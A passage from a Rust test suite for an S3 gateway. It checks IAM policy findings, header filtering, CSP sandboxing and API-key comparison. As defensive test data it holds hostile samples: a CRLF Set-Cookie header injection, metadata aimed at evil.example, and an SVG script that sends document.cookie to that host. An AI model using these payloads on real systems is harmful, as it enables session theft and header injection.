        role_template(&indent(read, 14), "").replace("Service: lambda.amazonaws.com", "AWS: \"*\"");
    let findings = policy_findings(&parse(&trust));
    assert!(
        findings
            .iter()
            .any(|f| f.contains("trust policy Principal")),
        "{findings:#?}"
    );

    // A function with SAM's own policies, or no role of the template.
    let function = format!(
        "{good}  Function:\n    Type: AWS::Serverless::Function\n    Properties:\n      Policies:\n        - S3ReadPolicy:\n            BucketName: x\n"
    );
    let findings = policy_findings(&parse(&function));
    for want in ["SAM policy template", "is not !GetAtt"] {
        assert!(
            findings.iter().any(|f| f.contains(want)),
            "want {want:?}: {findings:#?}"
        );
    }

    // The real template, made worse one way at a time.
    let real = template_text();
    for (from, to, want) in [
        (
            "Action: s3:GetObject",
            "Action: \"s3:Get*\"",
            "wildcard action",
        ),
        (
            "- !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}*\"",
            "- \"*\"",
            "every bucket",
        ),
        (
            "!Join [\"/*,arn:aws:s3:::\"",
            "!Join [\"/*,arn:aws:s3:::*,arn:aws:s3:::\"",
            "not one ARN per allowlisted bucket",
        ),
        (
            "- BucketAdminOn",
            "- BucketMode",
            "not behind !If on bucket mode and AdminOperations",
        ),
        (
            "s3:prefix: !Sub \"${KeyPrefix}*\"",
            "s3:prefix: \"*\"",
            "without Condition StringLike s3:prefix",
        ),
        ("- WritesOn", "- ListingOn", "not behind !If on AllowWrite"),
        (
            "Resource: !GetAtt LogGroup.Arn",
            "Resource: \"*\"",
            "own log group",
        ),
        (
            "Role: !GetAtt FunctionRole.Arn",
            "Policies: [AmazonS3ReadOnlyAccess]",
            "is not !GetAtt",
        ),
    ] {
        assert!(real.contains(from), "template.yaml no longer has {from:?}");
        let worse = real.replacen(from, to, 1);
        let findings = policy_findings(&parse(&worse));
        assert!(
            findings.iter().any(|f| f.contains(want)),
            "{from:?} -> {to:?}: want a finding containing {want:?}, got {findings:#?}"
        );
    }
}

// ---------------------------------------------------------------------------
// Responses: object metadata never becomes a header.
// ---------------------------------------------------------------------------

/// Every header an object answer (200, 206, HEAD) may carry, and the CORS
/// ones `cors-origin` adds.
const OBJECT_HEADERS: &[&str] = &[
    "content-security-policy",
    "content-type",
    "content-length",
    "content-range",
    "etag",
    "last-modified",
    "cache-control",
    "content-disposition",
    "content-encoding",
    "accept-ranges",
    "x-content-type-options",
];
const CORS_HEADERS: &[&str] = &[
    "access-control-allow-origin",
    "access-control-expose-headers",
    "vary",
];

/// Metadata an uploader can set, aimed at the caller's browser.
const HOSTILE_METADATA: &[(&str, &str)] = &[
    ("set-cookie", "session=stolen; Path=/"),
    ("access-control-allow-origin", "https://evil.example"),
    ("access-control-allow-credentials", "true"),
    ("content-security-policy", "script-src https://evil.example"),
    ("location", "https://evil.example/"),
    ("refresh", "0; url=https://evil.example/"),
    ("x-content-type-options", "sniff-away-evil.example"),
];

async fn put_hostile(fx: &Fixture, key: &str, disposition: Option<&str>) {
    let mut put = fx
        .app
        .store
        .client()
        .put_object()
        .bucket("images")
        .key(key)
        .content_type("image/png")
        .cache_control("max-age=60")
        .content_language("en")
        .website_redirect_location("https://evil.example/")
        .set_content_disposition(disposition.map(str::to_string))
        .body(ByteStream::from(sample("icons/logo.png")));
    for (k, v) in HOSTILE_METADATA {
        put = put.metadata(*k, *v);
    }
    put.send()
        .await
        .unwrap_or_else(|e| panic!("put {key}: {e:?}"));
}

async fn handle(fx: &Fixture, ev: Json) -> ProxyResponse {
    let ev: ProxyEvent = serde_json::from_value(ev).expect("event parses");
    fx.app.handle_event(ev).await
}

fn with_header(mut ev: Json, name: &str, value: &str) -> Json {
    ev["headers"][name] = value.into();
    ev["multiValueHeaders"][name] = serde_json::json!([value]);
    ev
}

/// The handler's answers to GET, HEAD and a ranged GET of `key`, each with
/// its label.
async fn object_answers(fx: &Fixture, key: &str) -> Vec<(&'static str, ProxyResponse)> {
    vec![
        ("GET", handle(fx, event("GET", key)).await),
        ("HEAD", handle(fx, event("HEAD", key)).await),
        (
            "GET Range",
            handle(fx, with_header(event("GET", key), "Range", "bytes=0-9")).await,
        ),
    ]
}

/// Fails on a header outside `allowed`, a value carrying the metadata's
/// marker, or a header sent twice.
fn assert_only(r: &ProxyResponse, allowed: &[&str], context: &str) {
    let mut seen = Vec::new();
    for (name, value) in &r.headers {
        let lower = name.to_ascii_lowercase();
        assert!(
            allowed.contains(&lower.as_str()),
            "{context}: header {name}: {value:?} is not one s3gate sends: {:?}",
            r.headers
        );
        assert!(
            !value.contains("evil") && !value.contains("stolen"),
            "{context}: {name}: {value:?} came from object metadata"
        );
        assert!(
            !seen.contains(&lower),
            "{context}: {name} sent twice: {:?}",
            r.headers
        );
        seen.push(lower);
    }
}

#[tokio::test]
async fn object_metadata_never_becomes_a_response_header() {
    let fx = Fixture::new().await;
    put_hostile(&fx, "t/hostile.png", None).await;

    // The store hands the metadata back, so s3gate really was given it.
    let head = fx
        .app
        .store
        .client()
        .head_object()
        .bucket("images")
        .key("t/hostile.png")
        .send()
        .await
        .expect("head");
    let stored = head.metadata().cloned().unwrap_or_default();
    for (k, v) in HOSTILE_METADATA {
        assert_eq!(
            stored.get(*k).map(String::as_str),
            Some(*v),
            "stored x-amz-meta-{k}"
        );
    }

    for (label, r) in object_answers(&fx, "t/hostile.png").await {
        let context = format!("{label} with cors-origin unset");
        assert!(matches!(r.status_code, 200 | 206), "{context}: {r:?}");
        assert_only(&r, OBJECT_HEADERS, &context);
        // The stored Cache-Control is one of the allow-listed ones.
        assert_eq!(r.header("cache-control"), Some("max-age=60"), "{context}");
        assert_eq!(
            r.header("x-content-type-options"),
            Some("nosniff"),
            "{context}"
        );
        assert_eq!(r.header("access-control-allow-origin"), None, "{context}");
    }

    // With CORS on, the origin is the configured one, once, whatever the
    // metadata says; credentials are never allowed.
    let fx = Fixture::with(&[("cors-origin", "https://app.example.com")]).await;
    put_hostile(&fx, "t/hostile.png", None).await;
    let allowed: Vec<&str> = OBJECT_HEADERS.iter().chain(CORS_HEADERS).copied().collect();
    for (label, r) in object_answers(&fx, "t/hostile.png").await {
        let context = format!("{label} with cors-origin set");
        assert_only(&r, &allowed, &context);
        assert_eq!(
            r.header("access-control-allow-origin"),
            Some("https://app.example.com"),
            "{context}"
        );
        assert_eq!(r.header("vary"), Some("Origin"), "{context}");
    }
}

#[tokio::test]
async fn a_stored_content_disposition_passes_only_when_safe() {
    let fx = Fixture::new().await;
    // What the SDK can store (it refuses CR, LF and other control
    // characters itself, and the store refuses non-ASCII).
    for (disposition, sent) in [
        (None, None),
        (Some("attachment"), Some("attachment")),
        (
            Some("attachment; filename=\"logo copy.png\""),
            Some("attachment; filename=\"logo copy.png\""),
        ),
        (
            Some("inline; filename*=UTF-8''%C3%A9t%C3%A9.png"),
            Some("inline; filename*=UTF-8''%C3%A9t%C3%A9.png"),
        ),
        // Not a disposition type: clients disagree on what it means.
        (Some("form-data; name=\"x\""), None),
        (Some("evil.example"), None),
    ] {
        put_hostile(&fx, "t/disposition.png", disposition).await;
        for (label, r) in object_answers(&fx, "t/disposition.png").await {
            assert_eq!(
                r.header("content-disposition"),
                sent,
                "{label}, stored {disposition:?}"
            );
        }
    }

    // What another writer could leave in the store: CR/LF and control
    // characters, written into s3s-fs's metadata file behind its back.
    put_hostile(&fx, "t/raw.png", Some("inline")).await;
    let sidecar = fx.dir.path().join(format!(
        ".bucket-{}.object-{}.metadata.json",
        b64("images"),
        b64("t/raw.png")
    ));
    let mut attrs: Json = serde_json::from_slice(&std::fs::read(&sidecar).unwrap_or_else(|e| {
        panic!(
            "{}: {e} (s3s-fs changed where it keeps metadata?)",
            sidecar.display()
        )
    }))
    .expect("metadata JSON");
    assert_eq!(attrs["content_disposition"], "inline", "{attrs}");
    let cases = [
        "inline\r\nSet-Cookie: session=stolen",
        "attachment; filename=\"a\nb.png\"",
        "attachment; filename=\"\u{0}.png\"",
        "attachment; filename=\"\u{7f}.png\"",
        "attachment; filename=\"\u{85}.png\"",
        // Non-ASCII is not text every client reads the same way.
        "attachment; filename=\"été.png\"",
    ]
    .map(|bad| (bad, "max-age=60".to_string()));
    let cache_cases = [(
        "inline",
        "max-age=1\r\nSet-Cookie: session=stolen".to_string(),
    )];
    for (bad, cache) in cases.into_iter().chain(cache_cases) {
        attrs["content_disposition"] = bad.into();
        attrs["cache_control"] = cache.into();
        std::fs::write(&sidecar, attrs.to_string()).expect("write metadata");
        for (label, r) in object_answers(&fx, "t/raw.png").await {
            // Either the store cannot send it at all (CR, LF, NUL, DEL: 502;
            // real S3 never sends them) or s3gate drops it; never a header.
            // Non-ASCII does reach s3gate, so the dropping is exercised.
            let context = format!("{label}, stored {bad:?}: {:?}", r.headers);
            let reached = if bad.is_ascii() {
                matches!(r.status_code, 200 | 206 | 502)
            } else {
                matches!(r.status_code, 200 | 206)
            };
            assert!(reached, "{context}");
            assert_only(&r, OBJECT_HEADERS, &context);
            assert_eq!(r.header("content-disposition"), None, "{context}");
            assert!(
                r.headers.iter().all(|(k, v)| !k.contains(['\r', '\n'])
                    && !v.contains(['\r', '\n', '\u{0}', '\u{7f}', '\u{85}'])),
                "{context}"
            );
        }
    }
}

fn b64(s: &str) -> String {
    base64_simd::URL_SAFE_NO_PAD.encode_to_string(s)
}

// ---------------------------------------------------------------------------
// Script in objects: sandboxed in every answer s3gate sends.
// ---------------------------------------------------------------------------

const KEY: &str = "security-key-aaaaaaaaaaaaaaa1";

async fn gateway(fx: &Fixture) -> Gateway {
    let mut cfg = GatewayConfig::dev(vec![KEY.to_string()]);
    cfg.rate_limit = 1000.0;
    cfg.burst_limit = 1000;
    Gateway::start(
        fx.app.clone(),
        cfg,
        SocketAddr::from((Ipv4Addr::LOCALHOST, 0)),
    )
    .await
    .expect("gateway starts")
}

/// The CSP's directives by name, for checking what a policy allows rather
/// than how it is spelled.
fn directives(csp: &str) -> Vec<(String, Vec<String>)> {
    csp.split(';')
        .filter_map(|d| {
            let mut words = d.split_whitespace();
            let name = words.next()?.to_ascii_lowercase();
            Some((name, words.map(str::to_string).collect()))
        })
        .collect()
}

#[tokio::test]
async fn objects_that_can_hold_script_are_sandboxed_over_http() {
    let fx = Fixture::new().await;
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('https://evil.example/?'+document.cookie)</script></svg>"#;
    fx.put("t/evil.svg", svg.to_vec(), Some("image/svg+xml"))
        .await;
    fx.put(
        "t/evil.html",
        b"<script>alert(1)</script>".to_vec(),
        Some("text/html"),
    )
    .await;
    // Stored with no type: served by extension, still sandboxed.
    fx.put("t/untyped.svg", svg.to_vec(), None).await;
    let gw = gateway(&fx).await;
    let base = format!("http://{}/dev/", gw.addr());
    let c = reqwest::Client::new();
    for key in [
        "t/evil.svg",
        "t/evil.html",
        "t/untyped.svg",
        "icons/logo.svg",
    ] {
        for (label, req) in [
            ("GET", c.get(format!("{base}{key}"))),
            ("HEAD", c.head(format!("{base}{key}"))),
            (
                "GET Range",
                c.get(format!("{base}{key}")).header("range", "bytes=0-20"),
            ),
        ] {
            let resp = req.header("x-api-key", KEY).send().await.expect("request");
            let context = format!("{label} {key}");
            assert!(
                matches!(resp.status().as_u16(), 200 | 206),
                "{context}: {}",
                resp.status()
            );
            let h = resp.headers();
            assert_eq!(
                h.get("x-content-type-options")
                    .and_then(|v| v.to_str().ok()),
                Some("nosniff"),
                "{context}"
            );
            let csps: Vec<&str> = h
                .get_all("content-security-policy")
                .iter()
                .filter_map(|v| v.to_str().ok())
                .collect();
            assert_eq!(csps.len(), 1, "{context}: {csps:?}");
            let d = directives(csps[0]);
            let get = |n: &str| d.iter().find(|(name, _)| name == n).map(|(_, v)| v.clone());
            assert_eq!(
                get("default-src"),
                Some(vec!["'none'".to_string()]),
                "{context}: {d:?}"
            );
            // A bare `sandbox`: no allow-scripts, no allow-same-origin.
            assert_eq!(get("sandbox"), Some(Vec::new()), "{context}: {d:?}");
            assert_eq!(get("script-src"), None, "{context}: {d:?}");
        }
    }
    gw.shutdown().await;
}

// ---------------------------------------------------------------------------
// Local mode: loopback only, keys compared whole.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn the_embedded_store_refuses_a_non_loopback_address() {
    let dir = tempfile::tempdir().expect("tempdir");
    for addr in [
        SocketAddr::from((Ipv4Addr::UNSPECIFIED, 0)),
        SocketAddr::from((Ipv6Addr::UNSPECIFIED, 0)),
        SocketAddr::from((Ipv4Addr::new(192, 0, 2, 1), 0)),
        SocketAddr::from((Ipv4Addr::new(10, 0, 0, 1), 9000)),
    ] {
        match EmbeddedStore::start(dir.path(), addr).await {
            Ok(store) => panic!("{addr}: the store started on {}", store.addr()),
            Err(e) => {
                // Refused by s3gate before any bind, not by the OS.
                assert_eq!(e.kind(), std::io::ErrorKind::InvalidInput, "{addr}: {e}");
                assert!(e.to_string().contains("loopback"), "{addr}: {e}");
            }
        }
    }
    // And the loopback address it is meant for works.
    let store = EmbeddedStore::start(dir.path(), SocketAddr::from((Ipv4Addr::LOCALHOST, 0)))
        .await
        .expect("loopback store starts");
    assert!(store.addr().ip().is_loopback(), "{}", store.addr());
}

#[test]
fn key_comparison_looks_at_every_bit() {
    let key = KEY.as_bytes();
    assert!(constant_time_eq(key, key));
    assert!(constant_time_eq(b"", b""));
    for i in 0..key.len() {
        for bit in 0..8 {
            let mut other = key.to_vec();
            other[i] ^= 1 << bit;
            assert!(!constant_time_eq(key, &other), "byte {i} bit {bit} ignored");
            assert!(!constant_time_eq(&other, key), "byte {i} bit {bit} ignored");
        }
    }
    let mut longer = key.to_vec();
    longer.push(b'a');
    assert!(!constant_time_eq(key, &longer));
    assert!(!constant_time_eq(&longer, key));
    assert!(!constant_time_eq(key, &key[..key.len() - 1]));
}

#[tokio::test]
async fn the_gateway_accepts_a_key_only_whole() {
    let fx = Fixture::new().await;
    let gw = gateway(&fx).await;
    let url = format!("http://{}/dev/icons/logo.png", gw.addr());
    let c = reqwest::Client::new();
    let last_changed = format!("{}2", &KEY[..KEY.len() - 1]);
    let first_changed = format!("t{}", &KEY[1..]);
    let upper = KEY.to_ascii_uppercase();
    let longer = format!("{KEY}1");
    let twice = format!("{KEY}{KEY}");
    for (what, key) in [
        ("the last character changed", last_changed.as_str()),
        ("the first character changed", first_changed.as_str()),
        ("one character more", longer.as_str()),
        ("upper case", upper.as_str()),
        ("twice", twice.as_str()),
    ] {
        let resp = c
            .get(&url)
            .header("x-api-key", key)
            .send()
            .await
            .expect("GET");
        assert_eq!(resp.status(), 403, "{what}: {key:?}");
        assert_eq!(
            resp.text().await.expect("body"),
            r#"{"message":"Forbidden"}"#,
            "{what}"
        );
    }
    let resp = keyed_get(&c, &url, KEY).await;
    assert_eq!(resp.status(), 200, "the key itself");
    gw.shutdown().await;
}
